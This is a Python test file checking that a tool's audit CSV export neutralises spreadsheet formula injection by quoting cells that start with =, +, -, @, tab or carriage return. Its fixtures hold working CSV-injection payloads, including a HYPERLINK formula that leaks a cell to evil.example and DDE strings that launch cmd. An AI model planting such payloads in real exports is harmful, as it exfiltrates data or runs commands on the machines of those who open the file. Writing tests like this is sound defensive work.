"""The audit CSV cannot make a spreadsheet run a formula (CSV injection), and stays exact CSV.

``audit_csv`` feeds ``GET /handrail/threads/T/audit?format=csv``, ``GET
/handrail/audit?format=csv``, the web inbox's download and ``handrail audit --csv``. Tool
arguments, answers, messages and reviewer names in it are untrusted: a cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote
(OWASP), a cell that starts with a quote gets one more (so one leading quote off every
cell that has one gives the data back), and a plain number such as ``-5`` stays a number.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import orjson
import pytest

from handrail.server.wire import AUDIT_FIELDS, audit_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "'=already quoted",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _cell(value: Any) -> str:
    """What a cell holds before neutralising: text as it is, anything else as JSON."""
    if value is None:
        return ""
    return value if isinstance(value, str) else orjson.dumps(value).decode()


def _restore(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_any_column_is_neutralised_and_round_trips(payload: str) -> None:
    entries = [{name: payload for name in AUDIT_FIELDS}]
    rows = _rows(audit_csv(entries))
    assert len(rows) == 1
    for name in AUDIT_FIELDS:
        cell = rows[0][name]
        assert not cell.startswith(TRIGGERS), (name, cell)
        assert cell == "'" + payload, (name, cell)
        assert _restore(cell) == payload


def test_hostile_values_where_an_audit_trail_holds_them() -> None:
    """Tool arguments, answers, reviewer ids and messages, as ``audit_entry`` gives them."""
    entry = {name: None for name in AUDIT_FIELDS}
    entry.update(
        thread_id="=thread",
        seq=7,
        at="2026-12-01T10:00:00+00:00",
        event="answered",
        interrupt_id="@interrupt",
        kind="+kind",
        reviewer={"id": '=HYPERLINK("http://evil.example")', "roles": ["-dba"]},
        channel="-cli",
        tool_call_id="\tcall",
        tool="=tool",
        args={"query": "=cmd|' /C calc'!A0"},
        proposed={"query": "+1"},
        value="=1+1",
        result={"content": "@SUM(A1:A9)"},
    )
    plain_reviewer = dict(entry, reviewer="@mallory", value={"type": "reject", "message": "=evil()"})
    rows = _rows(audit_csv([entry, plain_reviewer]))
    for row, source in zip(rows, (entry, plain_reviewer), strict=True):
        for name in AUDIT_FIELDS:
            cell = row[name]
            assert not cell.startswith(TRIGGERS), (name, cell)
            assert _restore(cell) == _cell(source[name]), name
    assert rows[0]["thread_id"] == "'=thread" and rows[0]["tool_call_id"] == "'\tcall"
    assert rows[0]["args"] == '{"query":"=cmd|\' /C calc\'!A0"}'  # JSON starts with "{": inert
    assert rows[1]["reviewer"] == "'@mallory"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (-1e-3, "-0.001"),
        ("-5", "-5"),
        ("-1e3", "-1e3"),
        (5, "5"),
        ("-5+1", "'-5+1"),
        ("- 5", "'- 5"),
        ("-5\n=1", "'-5\n=1"),
        ("+5", "'+5"),
        ("-", "'-"),
        ("", ""),
        (None, ""),
        ([-1, -2], "[-1,-2]"),
    ],
)
def test_negative_numbers_stay_numbers(value: Any, cell: str) -> None:
    """A plain number is data a spreadsheet reads as a number, never as a formula."""
    entry = {name: None for name in AUDIT_FIELDS}
    entry["value"] = value
    (row,) = _rows(audit_csv([entry]))
    assert row["value"] == cell
    assert _restore(row["value"]) == _cell(value)


def test_the_csv_stays_valid_and_keeps_the_header() -> None:
    entries = [{name: payload for name in AUDIT_FIELDS} for payload in PAYLOADS]
    text = audit_csv(entries)
    reader = csv.reader(io.StringIO(text, newline=""))
    assert next(reader) == AUDIT_FIELDS
    assert sum(1 for _ in reader) == len(PAYLOADS)
    assert audit_csv([]) == ",".join(AUDIT_FIELDS) + "\r\n"
